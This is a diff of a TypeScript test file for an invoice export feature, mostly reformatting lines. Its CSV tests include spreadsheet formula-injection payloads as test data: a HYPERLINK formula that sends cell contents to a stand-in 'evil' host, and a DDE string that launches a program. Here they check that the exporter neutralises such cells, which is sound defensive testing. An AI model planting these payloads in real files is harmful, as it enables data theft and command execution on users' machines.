@@ -2,7 +2,15 @@ import { isLosslessNumber, parse as parseLossless } from "lossless-json";
 import Papa from "papaparse";
 import { describe, expect, it, vi } from "vitest";
 import { readArchiveCsv } from "@/lib/archive/csv";
-import { EXPORT_INCOMPLETE, exportFileName, INVOICE_CSV_COLUMNS, invoiceListQuerySchema, type Invoice, type InvoiceList, type InvoiceListQuery } from "@/lib/invoicing";
+import {
+  EXPORT_INCOMPLETE,
+  exportFileName,
+  INVOICE_CSV_COLUMNS,
+  type Invoice,
+  type InvoiceList,
+  type InvoiceListQuery,
+  invoiceListQuerySchema,
+} from "@/lib/invoicing";
 import { Problem } from "@/lib/problem";
 import { exportEnding } from "@/lib/query/export-download";
 import { csvEncoder, exportStream, invoiceCsvCells, jsonEncoder, planExport } from "./export";
@@ -65,11 +73,29 @@ describe("CSV export", () => {
     expect(meta.fields).toEqual([...INVOICE_CSV_COLUMNS]);
     expect(data).toEqual([
       {
-        invoice_id: base.invoice_id, order_id: "ORD-1", order_name: "Plain", status: "completed", fiat_amount: "49.9", fiat_currency: "EUR",
-        crypto_amount: "0.00081234", currency: "BTC", priced_in: "", allowed_error_percent: "1", callback_url: "", created_at: "2026-01-31T12:00:00.000Z",
-        updated_at: "2026-01-31T12:05:00.000Z", expires_at: "", payment_address: "bc1qexample", payment_network: "bitcoin",
-        payment_amount_due: "0.00081234", payment_amount_received: "0.00081234", payment_rate: "61234.5",
-        payment_paid_at: "2026-01-31T12:04:00.000Z", payment_confirmations: "3", payment_confirmations_required: "2", tx_hashes: "aa11 bb22",
+        invoice_id: base.invoice_id,
+        order_id: "ORD-1",
+        order_name: "Plain",
+        status: "completed",
+        fiat_amount: "49.9",
+        fiat_currency: "EUR",
+        crypto_amount: "0.00081234",
+        currency: "BTC",
+        priced_in: "",
+        allowed_error_percent: "1",
+        callback_url: "",
+        created_at: "2026-01-31T12:00:00.000Z",
+        updated_at: "2026-01-31T12:05:00.000Z",
+        expires_at: "",
+        payment_address: "bc1qexample",
+        payment_network: "bitcoin",
+        payment_amount_due: "0.00081234",
+        payment_amount_received: "0.00081234",
+        payment_rate: "61234.5",
+        payment_paid_at: "2026-01-31T12:04:00.000Z",
+        payment_confirmations: "3",
+        payment_confirmations_required: "2",
+        tx_hashes: "aa11 bb22",
       },
     ]);
   });
@@ -84,7 +110,15 @@ describe("CSV export", () => {
   });
 
   it("neutralises cells a spreadsheet would run as a formula, and leaves numbers alone", async () => {
-    const dangerous = ["=HYPERLINK(\"http://evil\")", "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", '=HYPERLINK("http://evil?"&A2,"x")\nsecond line'];
+    const dangerous = [
+      '=HYPERLINK("http://evil")',
+      "+1+1",
+      "-2+3",
+      "@SUM(A1)",
+      "\tcmd",
+      "\rcmd",
+      '=HYPERLINK("http://evil?"&A2,"x")\nsecond line',
+    ];
     const csv = await file([dangerous.map((order_name, i) => invoice({ order_id: `O-${i}`, order_name }))]);
     const cells = parse(csv).data.map((r) => r.order_name);
     expect(cells).toEqual(dangerous.map((d) => `'${d}`));
@@ -107,12 +141,20 @@ describe("CSV export", () => {
       for (const cell of data.flat()) expect(cell.replace(/^"/, ""), `split on ${JSON.stringify(delimiter)}`).not.toMatch(/^\s*[=+\-@]/);
     }
     // Read as CSV, each cell is the name neutralised; the archive import gets the names back exactly.
-    expect(parse(csv).data.map((r) => r.order_name)).toEqual(["x;'=cmd|'/C calc'!A0;y", "a\t'@SUM(A1)", "ok\r\n'+1", "1, '-2", "semi;colon"]);
+    expect(parse(csv).data.map((r) => r.order_name)).toEqual([
+      "x;'=cmd|'/C calc'!A0;y",
+      "a\t'@SUM(A1)",
+      "ok\r\n'+1",
+      "1, '-2",
+      "semi;colon",
+    ]);
     expect(readArchiveCsv(csv).rows.map((r) => r.body?.order_name)).toEqual(names);
   });
 
   it("writes amounts as they are, even negative plain decimals, unquoted and without a '", async () => {
-    const csv = await file([[invoice({ fiat_amount: "-12.5", crypto_amount: "-0.00000025", payment: { ...base.payment!, rate: "1000000000000000000000" } })]]);
+    const csv = await file([
+      [invoice({ fiat_amount: "-12.5", crypto_amount: "-0.00000025", payment: { ...base.payment!, rate: "1000000000000000000000" } })],
+    ]);
     const [, row] = csv.split("\r\n");
     expect(row).toContain(",-12.5,EUR,-0.00000025,BTC,");
     expect(row).toContain(",1000000000000000000000,");
@@ -120,9 +162,20 @@ describe("CSV export", () => {
   });
 
   it("leaves absent optional fields empty, with and without payment", async () => {
-    const bare = invoice({ order_name: null, status: null, fiat_amount: null, crypto_amount: null, currency: null, allowed_error_percent: null, created_at: null, updated_at: null, payment: null });
+    const bare = invoice({
+      order_name: null,
+      status: null,
+      fiat_amount: null,
+      crypto_amount: null,
+      currency: null,
+      allowed_error_percent: null,
+      created_at: null,
+      updated_at: null,
+      payment: null,
+    });
     const [row] = parse(await file([[bare]])).data;
-    for (const column of INVOICE_CSV_COLUMNS.filter((c) => !["invoice_id", "order_id", "fiat_currency"].includes(c))) expect(row[column], column).toBe("");
+    for (const column of INVOICE_CSV_COLUMNS.filter((c) => !["invoice_id", "order_id", "fiat_currency"].includes(c)))
+      expect(row[column], column).toBe("");
     const noTx = invoice({ payment: { ...base.payment!, transactions: [{ ...base.payment!.transactions[0], tx_hash: null }] } });
     expect(parse(await file([[noTx]])).data[0].tx_hashes).toBe("");
   });
@@ -145,11 +198,19 @@ describe("CSV export", () => {
   });
 
   it("writes which amount the invoice was priced in, empty when the provider does not say (issue 22)", async () => {
-    const rows = [invoice({ order_id: "P-1", priced_in: "crypto" }), invoice({ order_id: "P-2", priced_in: "fiat" }), invoice({ order_id: "P-3", priced_in: null })];
+    const rows = [
+      invoice({ order_id: "P-1", priced_in: "crypto" }),
+      invoice({ order_id: "P-2", priced_in: "fiat" }),
+      invoice({ order_id: "P-3", priced_in: null }),
+    ];
     expect(parse(await file([rows])).data.map((r) => r.priced_in)).toEqual(["crypto", "fiat", ""]);
     // Read back: the amount it was priced in is the one the import sends, the other is derived again.
     const imported = readArchiveCsv(await file([rows])).rows;
-    expect(imported.map((r) => [r.body?.fiat_amount ?? null, r.body?.crypto_amount ?? null])).toEqual([[null, "0.00081234"], ["49.9", null], ["49.9", null]]);
+    expect(imported.map((r) => [r.body?.fiat_amount ?? null, r.body?.crypto_amount ?? null])).toEqual([
+      [null, "0.00081234"],
+      ["49.9", null],
+      ["49.9", null],
+    ]);
   });
 
   it("starts with a byte order mark only when asked (for Excel)", async () => {
@@ -159,24 +220,51 @@ describe("CSV export", () => {
   });
 
   it("is read back by the archive import: the POST /archived columns of every row, a neutralised name restored", async () => {
-    const rows = [invoice({ order_id: "A-1", order_name: "=cmd|' /C calc'!A0" }), invoice({ order_id: "A-2", order_name: "Chairs, 4 \"oak\"\nsecond line", fiat_amount: "0.5" })];
+    const rows = [
+      invoice({ order_id: "A-1", order_name: "=cmd|' /C calc'!A0" }),
+      invoice({ order_id: "A-2", order_name: 'Chairs, 4 "oak"\nsecond line', fiat_amount: "0.5" }),
+    ];
     const imported = readArchiveCsv(await file([rows], csvEncoder({ bom: true })));
     expect(imported.missingColumns).toEqual([]);
     expect(imported.fileProblems).toEqual([]);
     expect(imported.rows.map((r) => r.problems)).toEqual([[], []]);
     expect(imported.rows.map((r) => r.body)).toEqual([
-      { order_id: "A-1", order_name: "=cmd|' /C calc'!A0", fiat_amount: "49.9", fiat_currency: "EUR", currency: "BTC", allowed_error_percent: 1, created_at: "2026-01-31T12:00:00.000Z" },
-      { order_id: "A-2", order_name: "Chairs, 4 \"oak\"\nsecond line", fiat_amount: "0.5", fiat_currency: "EUR", currency: "BTC", allowed_error_percent: 1, created_at: "2026-01-31T12:00:00.000Z" },
+      {
+        order_id: "A-1",
+        order_name: "=cmd|' /C calc'!A0",
+        fiat_amount: "49.9",
+        fiat_currency: "EUR",
+        currency: "BTC",
+        allowed_error_percent: 1,
+        created_at: "2026-01-31T12:00:00.000Z",
+      },
+      {
+        order_id: "A-2",
+        order_name: 'Chairs, 4 "oak"\nsecond line',
+        fiat_amount: "0.5",
+        fiat_currency: "EUR",
+        currency: "BTC",
+        allowed_error_percent: 1,
+        created_at: "2026-01-31T12:00:00.000Z",
+      },
     ]);
   });
 
   it("ends a file whose walk failed midway with a row that says so, which the archive import refuses", async () => {
-    const csv = await file([[invoice({ order_id: "P1" })], [invoice({ order_id: "P2" })], [invoice({ order_id: "P3" })]], csvEncoder({ bom: false }), 2);
+    const csv = await file(
+      [[invoice({ order_id: "P1" })], [invoice({ order_id: "P2" })], [invoice({ order_id: "P3" })]],
+      csvEncoder({ bom: false }),
+      2,
+    );
     const { data } = Papa.parse<string[]>(csv, { skipEmptyLines: true });
     expect(data).toHaveLength(4);
-    expect(data[3][0]).toMatch(new RegExp(`^${EXPORT_INCOMPLETE}: only the first 2 rows are here\\. The invoicing API failed midway \\(.*HTTP 500`));
+    expect(data[3][0]).toMatch(
+      new RegExp(`^${EXPORT_INCOMPLETE}: only the first 2 rows are here\\. The invoicing API failed midway \\(.*HTTP 500`),
+    );
     const imported = readArchiveCsv(csv);
-    expect(imported.fileProblems).toEqual([expect.stringMatching(/^This is an incomplete export: only the first 2 rows are here\. The invoicing API failed midway/)]);
+    expect(imported.fileProblems).toEqual([
+      expect.stringMatching(/^This is an incomplete export: only the first 2 rows are here\. The invoicing API failed midway/),
+    ]);
     expect(imported.rows.map((r) => r.order_id)).toEqual(["P1", "P2"]);
   });
 });
@@ -190,14 +278,19 @@ describe("CSV export: the mark of a failed walk", () => {
     expect(cell).toContain("; '=cmd|'/C calc'!A0");
     expect(cell.split(/[;,\t\r\n]/).filter((part) => /^\s*[=+\-@]/.test(part))).toEqual([]);
     expect(readArchiveCsv(csv).fileProblems).toEqual([expect.stringContaining(": Bad gateway; =cmd|'/C calc'!A0). Export again.")]);
-    expect(exportEnding(csv, "csv")).toEqual({ complete: false, message: expect.stringContaining(": Bad gateway; =cmd|'/C calc'!A0). Export again.") });
+    expect(exportEnding(csv, "csv")).toEqual({
+      complete: false,
+      message: expect.stringContaining(": Bad gateway; =cmd|'/C calc'!A0). Export again."),
+    });
   });
 });
 
 /** A JSON export read back with every amount's digits as text (and other numbers as numbers), to compare with invoices. */
 const AMOUNT_KEYS = new Set(["fiat_amount", "crypto_amount", "amount_due", "amount_received", "rate", "amount"]);
 function readJsonExport(text: string) {
-  return parseLossless(text, (key, value) => (isLosslessNumber(value) ? (AMOUNT_KEYS.has(key) ? value.value : value.valueOf()) : value)) as {
+  return parseLossless(text, (key, value) =>
+    isLosslessNumber(value) ? (AMOUNT_KEYS.has(key) ? value.value : value.valueOf()) : value,
+  ) as {
     export: unknown;
     items: Invoice[];
     complete: boolean;
@@ -214,7 +307,13 @@ describe("JSON export", () => {
       payment: { ...base.payment!, amount_due: "12345.123456789012345678", amount_received: "0.000000000000000001", rate: "3180.10" },
     });
     const text = await file([[exact]], jsonEncoder());
-    for (const literal of ['"fiat_amount":100000000000000.01', '"crypto_amount":0.123456789012345678', '"amount_due":12345.123456789012345678', '"amount_received":0.000000000000000001', '"rate":3180.10']) {
+    for (const literal of [
+      '"fiat_amount":100000000000000.01',
+      '"crypto_amount":0.123456789012345678',
+      '"amount_due":12345.123456789012345678',
+      '"amount_received":0.000000000000000001',
+      '"rate":3180.10',
+    ]) {
       expect(text).toContain(literal);
     }
     expect(readJsonExport(text).items[0]).toEqual(exact);
@@ -226,8 +325,14 @@ describe("JSON export", () => {
   });
 
   it("holds the filter, the total, every invoice and says it is complete", async () => {
-    const body = readJsonExport(await file([[base, invoice({ order_id: "ORD-2" })], [invoice({ order_id: "ORD-3" })]], jsonEncoder(new Date("2026-02-01T00:00:00Z"))));
-    expect(body.export).toEqual({ started_at: "2026-02-01T00:00:00.000Z", filter: { sort_by: "created_at", sort_order: "desc" }, total_records: 3 });
+    const body = readJsonExport(
+      await file([[base, invoice({ order_id: "ORD-2" })], [invoice({ order_id: "ORD-3" })]], jsonEncoder(new Date("2026-02-01T00:00:00Z"))),
+    );
+    expect(body.export).toEqual({
+      started_at: "2026-02-01T00:00:00.000Z",
+      filter: { sort_by: "created_at", sort_order: "desc" },
+      total_records: 3,
+    });
     expect(body.items.map((i: Invoice) => i.order_id)).toEqual(["ORD-1", "ORD-2", "ORD-3"]);
     expect(body.items[0]).toEqual(base);
     expect(body).toMatchObject({ complete: true, row_count: 3 });
@@ -255,17 +360,42 @@ describe("JSON export", () => {
 describe("the walk", () => {
   const list = (items: Invoice[], page: number, pages: number, total: number): InvoiceList => ({
     items,
-    pagination: { current_page: page, page_size: 100, total_pages: pages, total_records: total, has_next: page < pages, has_previous: page > 1 },
+    pagination: {
+      current_page: page,
+      page_size: 100,
+      total_pages: pages,
+      total_records: total,
+      has_next: page < pages,
+      has_previous: page > 1,
+    },
   });
 
   it("bounds the view at the moment the export starts, keeps filter and sort, asks 100 a page", async () => {
     const asked: InvoiceListQuery[] = [];
-    const view = invoiceListQuerySchema.parse({ status: "cancelled", sort_by: "fiat_amount", sort_order: "asc", page: "3", page_size: "20" });
+    const view = invoiceListQuerySchema.parse({
+      status: "cancelled",
+      sort_by: "fiat_amount",
+      sort_order: "asc",
+      page: "3",
+      page_size: "20",
+    });
     const plan = await planExport(async (q) => (asked.push(q), list([], 1, 1, 0)), view, "csv", "UTC", new Date("2026-03-01T10:00:00Z"));
-    expect(asked).toEqual([{ status: "cancelled", sort_by: "fiat_amount", sort_order: "asc", page: 1, page_size: 100, created_before: "2026-03-01T10:00:00.000Z" }]);
+    expect(asked).toEqual([
+      {
+        status: "cancelled",
+        sort_by: "fiat_amount",
+        sort_order: "asc",
+        page: 1,
+        page_size: 100,
+        created_before: "2026-03-01T10:00:00.000Z",
+      },
+    ]);
     expect(plan.fileName).toBe("invoices_cancelled_until_2026-03-01.csv");
     const earlier = invoiceListQuerySchema.parse({ created_before: "2026-01-01T00:00:00Z" });
-    expect((await planExport(async (q) => (asked.push(q), list([], 1, 1, 0)), earlier, "json", "UTC", new Date("2026-03-01T10:00:00Z"))).query.created_before).toBe("2026-01-01T00:00:00.000Z");
+    expect(
+      (await planExport(async (q) => (asked.push(q), list([], 1, 1, 0)), earlier, "json", "UTC", new Date("2026-03-01T10:00:00Z"))).query
+        .created_before,
+    ).toBe("2026-01-01T00:00:00.000Z");
   });
 
   it("writes a row the previous page already wrote only once", async () => {
@@ -282,8 +412,16 @@ describe("the walk", () => {
 describe("the file name", () => {
   const q = (raw: Record<string, string>) => invoiceListQuerySchema.parse(raw);
   it("says what the file holds, with both days of a range included", () => {
-    expect(exportFileName(q({ status: "cancelled", created_after: "2025-12-31T23:59:59.999Z", created_before: "2026-04-01T00:00:00.000Z" }), "csv", "UTC")).toBe("invoices_cancelled_2026-01-01_2026-03-31.csv");
-    expect(exportFileName(q({ currency: "USDT.TRC20", created_after: "2025-12-31T23:59:59.999Z" }), "json", "UTC")).toBe("invoices_all_usdt-trc20_from_2026-01-01.json");
+    expect(
+      exportFileName(
+        q({ status: "cancelled", created_after: "2025-12-31T23:59:59.999Z", created_before: "2026-04-01T00:00:00.000Z" }),
+        "csv",
+        "UTC",
+      ),
+    ).toBe("invoices_cancelled_2026-01-01_2026-03-31.csv");
+    expect(exportFileName(q({ currency: "USDT.TRC20", created_after: "2025-12-31T23:59:59.999Z" }), "json", "UTC")).toBe(
+      "invoices_all_usdt-trc20_from_2026-01-01.json",
+    );
     expect(exportFileName(q({}), "csv", "UTC")).toBe("invoices_all.csv");
     // Days of the zone the view was counted in: Berlin's 21 November, not the UTC days it straddles.
     const berlinDay = q({ created_after: "2026-11-20T22:59:59.999Z", created_before: "2026-11-21T23:00:00.000Z" });
@@ -307,7 +445,10 @@ describe("a reader that goes away", () => {
       }
     }
     const logged = [vi.spyOn(console, "warn"), vi.spyOn(console, "error")];
-    const stream = exportStream({ query: invoiceListQuerySchema.parse({}), total: 1000, fileName: "x", pages: pages() }, csvEncoder({ bom: false }));
+    const stream = exportStream(
+      { query: invoiceListQuerySchema.parse({}), total: 1000, fileName: "x", pages: pages() },
+      csvEncoder({ bom: false }),
+    );
     const reader = stream.getReader();
     await reader.read(); // the header
     const pending = reader.read(); // asks for a page, which is still on its way
